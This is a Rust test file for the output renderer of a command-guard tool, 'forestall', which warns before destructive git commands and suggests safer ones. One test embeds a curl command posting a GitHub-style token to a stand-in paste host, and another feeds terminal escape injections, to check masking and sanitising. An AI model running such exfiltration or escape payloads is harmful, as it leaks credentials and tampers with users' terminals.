use super::*;
use crate::effect::EffectKind;
use crate::verdict::DecidedBy;
use crate::verdict::Instead;
use std::borrow::Cow;

mod looks;

const ASCII: Style = Style { columns: 60, colour: false, unicode: false };
const UNICODE: Style = Style { columns: 60, colour: false, unicode: true };
const COLOUR: Style = Style { columns: 60, colour: true, unicode: true };

fn finding(rule: &'static str, reason: &str, span: Span) -> Finding {
    Finding {
        rule: Cow::Borrowed(rule),
        effect: Some(EffectKind::RefDelete),
        decision: Decision::Ask,
        reason: reason.to_owned(),
        span,
        facts: Vec::new(),
        instead: None,
        confirm: None,
        rescue: None,
        subject: None,
    }
}

fn asked(findings: Vec<Finding>) -> Verdict {
    Verdict { decision: Decision::Ask, decided_by: DecidedBy::Rules, findings, ..Verdict::allow() }
}

fn full() -> Finding {
    Finding {
        instead: Some(Instead { text: "git branch keep/topic origin/topic".into(), runs: true }),
        confirm: None,
        rescue: Some("a backup ref; `forestall undo` brings it back".into()),
        facts: vec![(
            Key::CommitsSubjects,
            Value::List(vec!["Add the parser".into(), "Fix the lexer".into()]),
        )],
        ..finding(
            "git.push-delete",
            "Deletes branch topic on origin; 2 commits exist nowhere else.",
            Span::new(16, 30),
        )
    }
}

#[test]
fn one_finding_at_sixty_columns() {
    insta::assert_snapshot!(verdict("git push origin --delete topic", &asked(vec![full()]), Tense::Now, UNICODE), @r"
    ╭ forestall asks before this runs
    │  git push origin --delete topic
    │                  ^^^^^^^^^^^^^^
    │ Deletes branch topic on origin; 2 commits exist nowhere
    │ else.
    │ lost   Add the parser; Fix the lexer
    │ safer  git branch keep/topic origin/topic
    │ kept   a backup ref; `forestall undo` brings it back
    │ rule   forestall explain git.push-delete
    ");
    insta::assert_snapshot!(verdict("git push origin --delete topic", &asked(vec![full()]), Tense::Now, ASCII), @r"
    + forestall asks before this runs
    |  git push origin --delete topic
    |                  ^^^^^^^^^^^^^^
    | Deletes branch topic on origin; 2 commits exist nowhere
    | else.
    | lost   Add the parser; Fix the lexer
    | safer  git branch keep/topic origin/topic
    | kept   a backup ref; `forestall undo` brings it back
    | rule   forestall explain git.push-delete
    ");
}

#[test]
fn no_page_is_higher_or_wider_than_promised() {
    let long = "commits that exist nowhere else ".repeat(20);
    for columns in [20, 24, 40, 60, 80, 200] {
        for count in 1..6 {
            let names = ["a.b", "c.d", "e.f", "g.h", "i.j"];
            let findings =
                (0..count).map(|n| Finding { reason: long.clone(), rule: Cow::Borrowed(names[n]), ..full() });
            let page = verdict(
                "git push origin --delete topic",
                &asked(findings.collect()),
                Tense::Now,
                Style { columns, ..UNICODE },
            );
            assert!(page.lines().count() <= MAX_LINES, "{page}");
            assert!(page.lines().all(|line| super::columns(line) <= columns), "{page}");
        }
    }
}

#[test]
fn guilty_words_are_painted_where_there_is_colour() {
    let page = verdict("git push origin --delete topic", &asked(vec![full()]), Tense::Now, COLOUR);
    assert!(page.contains("git push origin \x1b[1;4;31m--delete topic\x1b[0m"), "{page}");
    assert!(!page.contains("^^"));
}

#[test]
fn a_long_line_is_cut_around_the_guilty_words() {
    let line = format!(
        "{} git push origin --delete topic {}",
        "echo before; ".repeat(30),
        "; echo after".repeat(30)
    );
    let at = line.find("--delete").unwrap();
    let (text, marks) = marked(&line, &[Span::new(at, at + 14)], 50, UNICODE);
    assert_eq!(columns(&text), 50);
    assert!(text.starts_with('…') && text.ends_with('…') && text.contains("origin --delete topic"), "{text}");
    let marked: String =
        text.chars().zip(marks.chars()).filter(|(_, mark)| *mark == '^').map(|(c, _)| c).collect();
    assert_eq!(marked, "--delete topic");
}

#[test]
fn nothing_of_others_reaches_the_terminal_raw() {
    let line = "echo \x1b[2J \u{202e}x\u{1a}\n";
    let evil = finding("a.b", "subject \x1b]0;pwned\x07 \u{9b}31m", Span::new(0, 4));
    for style in [ASCII, UNICODE] {
        let page = verdict(line, &asked(vec![evil.clone()]), Tense::Now, style)
            + &way_past(line, style)
            + &note("\x1b[2J", style);
        assert!(!page.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'), "{page:?}");
    }
}

#[test]
fn wide_characters_keep_the_marks_in_place() {
    let (text, marks) = marked("echo 漢字 x", &[Span::new(12, 13)], 40, UNICODE);
    assert_eq!((text.as_str(), marks.as_str()), ("echo 漢字 x", "          ^"));
}

#[test]
fn the_way_past_can_be_pasted_back() {
    let line = way_past("git commit -m 'it''s'", Style { columns: 120, ..UNICODE });
    assert_eq!(line, "╰ if you do mean it: forestall once 'git commit -m '\\''it'\\'''\\''s'\\'''\n");
}

#[test]
fn a_secret_in_the_line_is_not_shown() {
    let token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let line = format!("curl -d t={token} https://paste.example");
    let (text, marks) = marked(&line, &[Span::new(8, 8 + 2 + token.len())], 100, UNICODE);
    assert!(!text.contains(&token[..12]) && text.ends_with("> https://paste.example"), "{text}");
    assert!(marks.starts_with("        ^^^"), "{marks}");
    assert!(!way_past(&line, Style { columns: 200, ..UNICODE }).contains(token));
}
